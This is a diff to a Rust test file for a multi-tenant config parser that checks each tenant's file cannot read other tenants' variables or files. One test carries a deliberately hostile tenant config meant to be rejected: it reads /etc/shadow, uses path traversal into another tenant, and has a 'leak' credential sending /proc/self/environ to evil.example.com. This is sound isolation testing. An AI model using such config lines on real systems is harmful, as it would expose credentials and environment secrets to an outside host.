@@ -24,8 +24,8 @@ impl Folder {
 
     fn parse(&self, text: &str) -> Result<Config, Faults> {
         let variable = |name: &str| match name {
-            "TENANT_ACME_BUCKET" => Some("acme-bucket".to_owned()),
-            "AWS_SECRET_ACCESS_KEY" | "TENANT_GLOBEX_KEY" => Some("hush".to_owned()),
+            "TENANT_ACME__BUCKET" => Some("acme-bucket".to_owned()),
+            "AWS_SECRET_ACCESS_KEY" | "TENANT_GLOBEX__KEY" => Some("hush".to_owned()),
             _ => None,
         };
         Config::parse(text, &self.0.path().join("wharf.yaml"), &variable)
@@ -185,7 +185,7 @@ fn names_that_cannot_be_and_keys_that_are_elsewhere_are_told() {
 #[test]
 fn each_file_of_the_directory_is_a_tenant_and_other_files_are_none() {
     let output =
-        "outputs:\n  archive: { plugin: s3, match: \"*\", config: { bucket: \"${TENANT_ACME_BUCKET:-b}\" } }\n";
+        "outputs:\n  archive: { plugin: s3, match: \"*\", config: { bucket: \"${TENANT_ACME__BUCKET:-b}\" } }\n";
     let folder = Folder::with(&[
         ("acme.yaml", output),
         ("zeta.yaml", "tags: [zeta]\noutputs:\n  a: { plugin: ./own.wasm, match: \"*\" }\n"),
@@ -244,7 +244,7 @@ fn faults_of_a_tenants_file_name_it_with_their_line() {
 #[test]
 fn a_tenants_file_reads_no_variable_and_no_file_of_anybody_else() {
     let file = "sources:\n  in:\n    type: http\n    listen: 127.0.0.1:0\n    tokens: [{ token_file: /etc/shadow }, { token_file: ../globex/token }]\noutputs:\n  \
-                a: { plugin: ../../own.wasm, match: \"${AWS_SECRET_ACCESS_KEY}\" }\n  b: { plugin: s3, match: \"${TENANT_GLOBEX_KEY:-x}\" }\n\
+                a: { plugin: ../../own.wasm, match: \"${AWS_SECRET_ACCESS_KEY}\" }\n  b: { plugin: s3, match: \"${TENANT_GLOBEX__KEY:-x}\" }\n\
                 credentials:\n  leak: { type: bearer, token_file: /proc/self/environ, to: \"https://evil.example.com\" }\n";
     let folder = Folder::with(&[("acme.yaml", file)]);
     let faults = folder.faults("tenants_dir: tenants\n");
@@ -254,9 +254,9 @@ fn a_tenants_file_reads_no_variable_and_no_file_of_anybody_else() {
         format!("tenants/acme.yaml:5:57: tenants.acme.sources.in.tokens[1].token_file: text \"../globex/token\" {leads_out}"),
         format!("tenants/acme.yaml:7:16: tenants.acme.outputs.a.plugin: {leads_out}"),
         format!("tenants/acme.yaml:10:37: tenants.acme.credentials.leak.token_file: text \"/proc/self/environ\" {leads_out}"),
-        "the environment variable AWS_SECRET_ACCESS_KEY is not this tenant's: its file may read those that begin with TENANT_ACME_"
+        "the environment variable AWS_SECRET_ACCESS_KEY is not this tenant's: its file may read those that begin with TENANT_ACME__\n    help: name it TENANT_ACME__…, with two _ "
             .to_owned(),
-        "the environment variable TENANT_GLOBEX_KEY is not this tenant's".to_owned(),
+        "the environment variable TENANT_GLOBEX__KEY is not this tenant's".to_owned(),
     ] {
         assert!(faults.contains(&line), "{line} is not in {faults}");
     }
